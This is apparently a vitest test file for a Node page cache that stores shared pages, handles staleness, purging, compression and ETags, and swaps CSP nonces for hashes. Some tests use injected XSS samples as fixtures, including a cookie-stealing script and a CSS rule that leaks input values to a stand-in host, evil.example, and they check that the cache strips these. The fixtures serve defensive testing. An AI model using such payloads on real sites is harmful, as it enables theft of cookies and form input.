import { createHash } from "node:crypto";
import { createServer, type IncomingMessage, type Server, type ServerResponse } from "node:http";
import type { AddressInfo } from "node:net";
import zlib from "node:zlib";
import { afterEach, describe, expect, it } from "vitest";
import {
  createPageCache,
  lookupKey,
  type PageCacheOptions,
  STORABLE_HEADER,
  underPath,
  withoutNonce,
} from "./page-cache.server";

const NONCE = "abc123nonce";
const CSP = `default-src 'self'; script-src 'self' 'nonce-${NONCE}' 'strict-dynamic'; style-src 'self' 'nonce-${NONCE}'`;

type Page = { status?: number; body: string; headers?: Record<string, string>; delayMs?: number };

/** A stand-in for the site: counts its renders and answers what `pages` says, through the cache. */
async function startSite(pages: Record<string, () => Page>, options: Partial<PageCacheOptions> = {}) {
  let clock = 1_000_000;
  const events: string[] = [];
  const renders: string[] = [];
  const cache = createPageCache({
    maxBytes: 1024 * 1024,
    now: () => clock,
    onEvent: (event) => events.push(event),
    ...options,
  });
  const app = (req: IncomingMessage, res: ServerResponse) => {
    const make = pages[(req.url ?? "").split("?")[0] ?? ""];
    renders.push(req.url ?? "");
    (res as ServerResponse & { locals: object }).locals = { nonce: NONCE };
    if (!make) {
      res.statusCode = 404;
      res.end("Not found");
      return;
    }
    const page = make();
    const send = () => {
      res.statusCode = page.status ?? 200;
      res.setHeader("content-type", "text/html; charset=utf-8");
      res.setHeader("content-security-policy", CSP);
      res.setHeader(STORABLE_HEADER, "public");
      for (const [name, value] of Object.entries(page.headers ?? {})) res.setHeader(name, value);
      // Written in two parts, as a streamed render is.
      res.write(page.body.slice(0, 10));
      res.end(page.body.slice(10));
    };
    if (page.delayMs) setTimeout(send, page.delayMs);
    else send();
  };
  const server: Server = createServer((req, res) => cache.handle(req, res, app));
  await new Promise<void>((resolve) => server.listen(0, "127.0.0.1", resolve));
  const base = `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
  servers.push(server);
  return {
    cache,
    events,
    renders,
    get: (path: string, headers: Record<string, string> = {}) => fetch(`${base}${path}`, { headers }),
    tick: (ms: number) => {
      clock += ms;
    },
  };
}

const servers: Server[] = [];
afterEach(async () => {
  for (const server of servers.splice(0)) await new Promise((resolve) => server.close(resolve));
});

const sha256 = (content: string) => `'sha256-${createHash("sha256").update(content, "utf8").digest("base64")}'`;

const html = (text: string) =>
  `<!DOCTYPE html><html><head><style nonce="${NONCE}">body{color:red}</style></head><body><p>${text}</p>${"x".repeat(2000)}<script nonce="${NONCE}">window.__ctx=1</script><script type="module" nonce="${NONCE}" src="/assets/entry.js"></script></body></html>`;

describe("page cache", () => {
  it("renders a public page once, then answers from memory with the same bytes", async () => {
    let places = 12;
    const site = await startSite({ "/events": () => ({ body: html(`${places} places left`) }) });
    const first = await site.get("/events");
    expect(first.headers.get("x-cache")).toBe("MISS");
    expect(await first.text()).toContain("12 places left");
    places = 11;
    const second = await site.get("/events");
    expect(second.headers.get("x-cache")).toBe("HIT");
    expect(await second.text()).toContain("12 places left");
    expect(site.renders).toEqual(["/events"]);
    expect(second.headers.get("vary")).toBe("Accept-Encoding, Cookie");
    expect(second.headers.get(STORABLE_HEADER)).toBeNull();
  });

  it("never serves figures older than two seconds, and refreshes once in the background while visitors get the stored page", async () => {
    let places = 12;
    const site = await startSite({ "/events": () => ({ body: html(`${places} places left`), delayMs: 50 }) });
    await site.get("/events");
    places = 11;
    site.tick(1500);
    // Past fresh, within the stale bound: everyone is served at once, and one render refreshes it.
    const answers = await Promise.all([site.get("/events"), site.get("/events"), site.get("/events")]);
    for (const answer of answers) {
      expect(answer.headers.get("x-cache")).toBe("STALE");
      expect(await answer.text()).toContain("12 places left");
    }
    await new Promise((resolve) => setTimeout(resolve, 150));
    expect(site.renders).toHaveLength(2);
    const refreshed = await site.get("/events");
    expect(refreshed.headers.get("x-cache")).toBe("HIT");
    expect(await refreshed.text()).toContain("11 places left");
    places = 10;
    site.tick(2500);
    // Past the stale bound: everyone waits for one render.
    const rush = await Promise.all(Array.from({ length: 5 }, () => site.get("/events")));
    for (const answer of rush) expect(await answer.text()).toContain("10 places left");
    expect(site.renders).toHaveLength(3);
  });

  it("passes visitors with a session, cart or flash cookie straight to the site", async () => {
    const site = await startSite({ "/": () => ({ body: html("home") }) });
    await site.get("/");
    for (const cookie of [
      "pitlane.session_token=abc",
      "__Host-pitlane.session_token=abc",
      "other=1; pitlane.cart=xyz",
      "pitlane.flash=1",
    ]) {
      const answer = await site.get("/", { cookie });
      expect(answer.headers.get("x-cache"), cookie).toBeNull();
    }
    // The known-device cookie, a place in a waiting room and cookies of other sites are not
    // personal to a page.
    expect((await site.get("/", { cookie: "pitlane.device=1; theme=dark" })).headers.get("x-cache")).toBe("HIT");
    expect((await site.get("/", { cookie: "pitlane.queue=q1; pitlane.device=1" })).headers.get("x-cache")).toBe("HIT");
    expect((await site.get("/", { cookie: "pitlane.queue=q1; pitlane.cart=xyz" })).headers.get("x-cache")).toBeNull();
    // One render per personal visitor, and one for the shared page.
    expect(site.renders).toHaveLength(6);
  });

  it("keeps only what the site marks as shared: not private pages, errors or answers setting a cookie", async () => {
    const site = await startSite({
      "/private": () => ({ body: html("mine"), headers: { [STORABLE_HEADER]: "no" } }),
      "/cookie": () => ({ body: html("c"), headers: { "set-cookie": "a=1" } }),
      "/broken": () => ({ body: html("error"), status: 500 }),
    });
    for (const path of ["/private", "/cookie", "/broken", "/missing"]) {
      await site.get(path);
      const again = await site.get(path);
      expect(again.headers.get("x-cache"), path).toBeNull();
    }
    expect(site.renders).toHaveLength(8);
    expect((await site.get("/cookie")).headers.get("set-cookie")).toBe("a=1");
  });

  it("answers a matching If-None-Match with 304, and serves gzip and brotli made once", async () => {
    const site = await startSite({ "/blog": () => ({ body: html("article") }) });
    const first = await site.get("/blog", { "accept-encoding": "gzip" });
    const etag = first.headers.get("etag") ?? "";
    expect(etag).toMatch(/^W\/".+"$/);
    const revalidated = await site.get("/blog", { "if-none-match": etag });
    expect(revalidated.status).toBe(304);
    expect(revalidated.headers.get("etag")).toBe(etag);
    // fetch decompresses: the body is the page whatever the encoding on the wire.
    const raw = await rawGet(site, "/blog", "br");
    expect(raw.encoding).toBe("gzip"); // brotli is made in the background on first demand
    await new Promise((resolve) => setTimeout(resolve, 100));
    const brotli = await rawGet(site, "/blog", "br");
    expect(brotli.encoding).toBe("br");
    expect(zlib.brotliDecompressSync(brotli.body).toString()).toContain("article");
    expect(site.renders).toHaveLength(1);
  });

  it("stores the page without its nonce, and allows its inline scripts and styles by hash", async () => {
    const site = await startSite({ "/shop": () => ({ body: html("shop") }) });
    const answer = await site.get("/shop");
    const body = await answer.text();
    expect(body).not.toContain(NONCE);
    const csp = answer.headers.get("content-security-policy") ?? "";
    expect(csp).not.toContain("nonce-");
    expect(csp).not.toContain("strict-dynamic");
    expect(csp).toMatch(/script-src 'self' 'sha256-[A-Za-z0-9+/=]+'/);
    expect(csp).toMatch(/style-src 'self' 'sha256-[A-Za-z0-9+/=]+'/);
  });

  it("trusts only the scripts and styles the server rendered: injected ones are neither hashed nor kept", async () => {
    // What a future injection bug could put in a page: blocks without this response's nonce.
    const injected =
      '<script>steal(document.cookie)</script><SCRIPT src="/media/upload.js"></SCRIPT>' +
      "<style>input[value^=a]{background:url(//evil.example/a)}</style>";
    const site = await startSite({ "/community/sam": () => ({ body: html(`Sam's cars ${injected}`) }) });
    for (const expected of ["MISS", "HIT"]) {
      const answer = await site.get("/community/sam");
      expect(answer.headers.get("x-cache")).toBe(expected);
      const csp = answer.headers.get("content-security-policy") ?? "";
      expect(csp).toContain(sha256("window.__ctx=1"));
      expect(csp).toContain(sha256("body{color:red}"));
      expect(csp).not.toContain(sha256("steal(document.cookie)"));
      expect(csp).not.toContain(sha256("input[value^=a]{background:url(//evil.example/a)}"));
      const body = await answer.text();
      expect(body).toContain("Sam's cars");
      expect(body).toContain("<script>window.__ctx=1</script>");
      expect(body).toContain('<script type="module" src="/assets/entry.js"></script>');
      expect(body).not.toContain("steal(");
      expect(body).not.toContain("/media/upload.js");
      expect(body).not.toContain("evil.example");
    }
  });

  it("leaves a page's data as the site sent it, whatever text it carries", async () => {
    const text = '[{"body":"Never paste <script>alert(1)</script> into a page"}]';
    const site = await startSite({
      "/blog/xss.data": () => ({ body: text, headers: { "content-type": "text/x-script" } }),
    });
    await site.get("/blog/xss.data");
    const kept = await site.get("/blog/xss.data");
    expect(kept.headers.get("x-cache")).toBe("HIT");
    expect(await kept.text()).toBe(text);
  });

  it("drops the pages under a purged path at once, and keeps the others", async () => {
    let title = "Spring meet";
    const site = await startSite({
      "/events": () => ({ body: html(title) }),
      "/events/spring": () => ({ body: html(title) }),
      "/shop": () => ({ body: html("shop") }),
    });
    for (const path of ["/events", "/events/spring", "/events.data", "/shop"]) await site.get(path);
    title = "Summer meet";
    site.cache.purge(["/events"]);
    expect(await (await site.get("/events")).text()).toContain("Summer meet");
    expect(await (await site.get("/events/spring")).text()).toContain("Summer meet");
    expect((await site.get("/shop")).headers.get("x-cache")).toBe("HIT");
  });

  it("does not keep a render that began before a purge", async () => {
    let title = "old";
    const site = await startSite({ "/events": () => ({ body: html(title), delayMs: 100 }) });
    const rendering = site.get("/events");
    await new Promise((resolve) => setTimeout(resolve, 20));
    site.cache.purge(["*"]);
    title = "new";
    expect(await (await rendering).text()).toContain("old");
    expect(await (await site.get("/events")).text()).toContain("new");
  });

  it("keeps a render when only other pages were purged meanwhile", async () => {
    const site = await startSite({ "/blog": () => ({ body: html("article"), delayMs: 100 }) });
    const rendering = site.get("/blog");
    await new Promise((resolve) => setTimeout(resolve, 20));
    site.cache.purge(["/shop"]);
    site.cache.purge(["/events", "/"]);
    await rendering;
    expect((await site.get("/blog")).headers.get("x-cache")).toBe("HIT");
  });

  it("holds no more than its byte budget, dropping the least recently used page", async () => {
    const big = "y".repeat(60_000);
    const pages = Object.fromEntries(
      ["/a", "/b", "/c", "/d"].map((path) => [path, () => ({ body: html(big + path) })]),
    );
    const site = await startSite(pages, { maxBytes: 200_000 });
    await site.get("/a");
    await site.get("/b");
    await site.get("/c");
    await site.get("/a"); // /a is now the most recent
    await site.get("/d");
    expect(site.cache.stats().bytes).toBeLessThanOrEqual(200_000);
    expect((await site.get("/a")).headers.get("x-cache")).toBe("HIT");
    expect((await site.get("/b")).headers.get("x-cache")).toBe("MISS");
  });
});

describe("what the cache looks up", () => {
  const request = (url: string, headers: Record<string, string> = {}, method = "GET") =>
    ({ url, method, headers }) as unknown as IncomingMessage;

  it("looks up pages and their data, not files, staff pages, the API or other methods", () => {
    expect(lookupKey(request("/events?q=drift"))).toBe("/events?q=drift");
    expect(lookupKey(request("/events/spring.data"))).toBe("/events/spring.data");
    for (const url of [
      "/assets/x.js",
      "/favicon.svg",
      "/admin",
      "/admin/events",
      "/members/garage",
      "/api/x",
      "/metrics",
    ]) {
      expect(lookupKey(request(url)), url).toBeNull();
    }
    expect(lookupKey(request("/events", {}, "POST"))).toBeNull();
    expect(lookupKey(request("/events", { authorization: "Bearer x" }))).toBeNull();
  });

  it("purges a path with its sub-pages and data, and the home page alone for /", () => {
    expect(underPath("/events/spring", "/events")).toBe(true);
    expect(underPath("/events", "/events")).toBe(true);
    expect(underPath("/eventsx", "/events")).toBe(false);
    expect(underPath("/", "/")).toBe(true);
    expect(underPath("/events", "/")).toBe(false);
  });

  it("leaves a page without the response's nonce untouched", () => {
    const body = Buffer.from("<p>no scripts</p>");
    expect(withoutNonce(body, "n1", "script-src 'self' 'nonce-n1'", "text/html").csp).toBe("script-src 'self'");
  });

  it("takes a script without the nonce out of a kept page even when no script carried it", () => {
    const body = Buffer.from('<p>Quiet page</p><script src="/media/upload.js"></script>');
    const kept = withoutNonce(body, "n1", "script-src 'self' 'nonce-n1' 'strict-dynamic'", "text/html; charset=utf-8");
    expect(kept.body.toString()).toBe("<p>Quiet page</p>");
    expect(kept.csp).toBe("script-src 'self'");
  });

  it("ends an inline block where the browser does, so an injected one cannot swallow the server's", () => {
    const page =
      '<script>evil()</script ><script nonce="n1">ok()</script>' +
      '<script-card>text</script-card><script>unclosed(); <script nonce="n1">also()</script><p>after</p>';
    const kept = withoutNonce(Buffer.from(page), "n1", "script-src 'nonce-n1'", "text/html");
    expect(kept.body.toString()).toBe("<script>ok()</script><script-card>text</script-card><p>after</p>");
    expect(kept.csp).toBe(`script-src ${sha256("ok()")}`);
  });
});

async function rawGet(
  site: { get: (path: string, headers: Record<string, string>) => Promise<Response> },
  path: string,
  encoding: string,
) {
  void site;
  // fetch always decodes, so read the bytes on the wire with node:http.
  const { request } = await import("node:http");
  const base = servers.at(-1)?.address() as AddressInfo;
  return new Promise<{ encoding: string | undefined; body: Buffer }>((resolve, reject) => {
    request(
      { host: "127.0.0.1", port: base.port, path, headers: { "accept-encoding": `${encoding}, gzip` } },
      (res) => {
        const chunks: Buffer[] = [];
        res.on("data", (chunk: Buffer) => chunks.push(chunk));
        res.on("end", () => resolve({ encoding: res.headers["content-encoding"], body: Buffer.concat(chunks) }));
      },
    )
      .on("error", reject)
      .end();
  });
}
